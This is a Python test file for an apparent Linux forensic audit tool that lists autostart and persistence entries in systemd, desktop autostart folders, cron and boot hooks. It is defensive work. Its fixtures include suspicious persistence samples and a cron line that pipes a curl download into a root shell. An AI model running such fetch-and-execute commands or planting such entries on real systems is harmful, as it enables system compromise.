from __future__ import annotations

from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from audit.artifacts import autostart, boot, desktop_starts, jobs, starting
from audit.artifacts.autostart import Autostart
from audit.artifacts.base import ParseError
from audit.artifacts.desktop_starts import parse_desktop
from audit.artifacts.jobs import parse_anacrontab, parse_crontab, parse_system_crontab
from audit.model import GapKind
from tests.artifacts.devices import device, see, system

UNIT = "[Service]\nExecStart=-/usr/bin/x --y\nExecStartPre=/bin/sh -c '/tmp/z'\n[Install]\nWantedBy=multi-user.target\n"


def linked(root: Path, link: str, target: str) -> None:
    place = root / link
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(target)


def test_only_enabled_units_count(tmp_path: Path) -> None:
    system(tmp_path, {"usr/lib/systemd/system/on.service": UNIT, "usr/lib/systemd/system/off.service": UNIT})
    linked(
        tmp_path,
        "etc/systemd/system/multi-user.target.wants/on.service",
        "/usr/lib/systemd/system/on.service",
    )
    linked(tmp_path, "etc/systemd/system/multi-user.target.wants/masked.service", "/dev/null")
    found = see(tmp_path, Autostart)
    assert [(each.name, each.way, each.program, each.as_root) for each in found] == [
        ("on.service", "system service", "/usr/bin/x", True),
        ("on.service", "system service", "/tmp/z", True),
    ]


def test_a_timer_leads_to_its_service_and_a_drop_in_counts(tmp_path: Path) -> None:
    home = "home/alice/.config/systemd/user"
    files: dict[str, str | bytes] = {
        f"{home}/a.timer": "[Timer]\nOnCalendar=daily\nUnit=b.service\n",
        f"{home}/b.service": "[Service]\nExecStart=%h/.hidden/run\n",
        f"{home}/c.service.d/more.conf": "[Service]\nExecStart=\nExecStart=/tmp/c\n",
    }
    linked(system(tmp_path, files), f"{home}/timers.target.wants/a.timer", "../a.timer")
    found = {each.name: each for each in see(tmp_path, Autostart)}
    assert found["a.timer"].program == "~/.hidden/run"
    assert found["a.timer"].settings == "~/.config/systemd/user/b.service"
    assert (found["c.service.d"].program, found["c.service.d"].way, found["c.service.d"].user) == (
        "/tmp/c",
        "user service",
        "alice",
    )


def test_desktop_entries_and_those_switched_off(tmp_path: Path) -> None:
    folder = "home/alice/.config/autostart"
    entry = "[Desktop Entry]\nType=Application\nExec={}\n"
    files: dict[str, str | bytes] = {
        "etc/xdg/autostart/orca.desktop": entry.format("orca"),
        "etc/xdg/autostart/replaced.desktop": entry.format("/usr/bin/old"),
        f"{folder}/replaced.desktop": entry.format("/usr/bin/old") + "Hidden=true\n",
        f"{folder}/off.desktop": entry.format("/usr/bin/off") + "X-GNOME-Autostart-enabled=false\n",
        f"{folder}/on.desktop": entry.format("/home/alice/.x/on %U"),
        f"{folder}/note.txt": entry.format("/usr/bin/no"),
    }
    found = see(system(tmp_path, files), Autostart)
    assert [(each.name, each.program, each.user, each.enabled) for each in found] == [
        ("off.desktop", "/usr/bin/off", "alice", False),
        ("on.desktop", "~/.x/on", "alice", True),
        ("replaced.desktop", "/usr/bin/old", "alice", False),
        ("orca.desktop", "orca", "", True),
    ]


def test_scheduled_jobs(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "etc/crontab": "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n",
        "etc/cron.d/job": "*/5 * * * * bob /home/bob/.x/job\n",
        "etc/cron.d/.placeholder": "* * * * * root /usr/bin/no\n",
        "etc/cron.daily/man-db": "#!/bin/sh\n",
        "etc/anacrontab": "START_HOURS_RANGE=3-22\n1 5 cron.daily nice run-parts /etc/cron.daily\n",
        "var/spool/cron/crontabs/alice": "@reboot $HOME/.cache/.u/u\n# 0 0 * * * no\n",
        "etc/rc.local": "#!/bin/sh -e\n/usr/local/bin/start-it &\nexit 0\n",
    }
    found = see(system(tmp_path, files), Autostart)
    assert sorted((each.program, each.as_root) for each in found) == [
        ("/etc/cron.daily/man-db", True),
        ("/home/bob/.x/job", False),
        ("/usr/local/bin/start-it", True),
        ("run-parts", True),
        ("run-parts", True),
        ("~/.cache/.u/u", False),
    ]


def test_arguments_are_not_kept(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "etc/cron.d/job": "@daily root curl -u alice:hunter2 https://example.org | sh\n"
    }
    found = see(system(tmp_path, files), Autostart)
    assert found.items[0].signs
    assert "hunter2" not in repr(found)


def test_other_systems_are_said_not_to_be_looked_at(tmp_path: Path) -> None:
    found = see(device(tmp_path, {"Windows/": "", "Users/alice/": ""}), Autostart)
    assert [gap.kind for gap in found.gaps] == [GapKind.NOT_LOOKED]


def test_units_that_are_no_text_are_gaps(tmp_path: Path) -> None:
    found = see(system(tmp_path, {"etc/systemd/system/x.target.wants/y.service": b"\0"}), Autostart)
    assert [gap.kind for gap in found.gaps] == [GapKind.MALFORMED]


def test_lines_of_crontabs() -> None:
    table = b"0 5 * * 1 a b\n@daily c\n\nX = y\n#z\n1 2 3\n"
    assert parse_crontab(table) == [(1, "a b"), (2, "c")]
    assert parse_system_crontab(b"0 5 * * 1 root a b\n@daily bob c\n0 0 * * * root\n") == [
        (1, "root", "a b"),
        (2, "bob", "c"),
    ]
    assert parse_anacrontab(b"1 5 name a b\n@monthly 45 name c\n") == [(1, "root", "a b"), (2, "root", "c")]


PARSERS = [
    parse_crontab,
    parse_system_crontab,
    parse_anacrontab,
    jobs.parse_at_job,
    parse_desktop,
    desktop_starts.parse_bus_service,
    desktop_starts.parse_window_manager,
    starting.parse_script,
    boot.parse_udev,
    boot.parse_apt_hooks,
    boot.parse_inittab,
    boot.parse_modules,
    boot.parse_modprobe,
    autostart.parse_signs,
]
LINES = st.lists(
    st.sampled_from(
        [b'RUN+="', b'/bin/x"', b"install ", b"* * * * * ", b"DPkg::Post-Invoke {", b"}", b'"', b";", b"\\\n", b"\n",
         b"# atrun uid=", b"exit 1\n}\n", b"[Desktop Entry]\n", b"Exec=", b"#!", b"curl ", b"| sh", b"\xff", b"@", b"1:2:3:"]
    )
).map(b"".join)  # fmt: skip


@pytest.mark.parametrize("parser", PARSERS)
@given(data=st.one_of(st.binary(max_size=200), LINES))
def test_any_bytes_are_read_or_refused(parser: object, data: bytes) -> None:
    with suppress(ParseError):
        parser(data)  # type: ignore[operator]
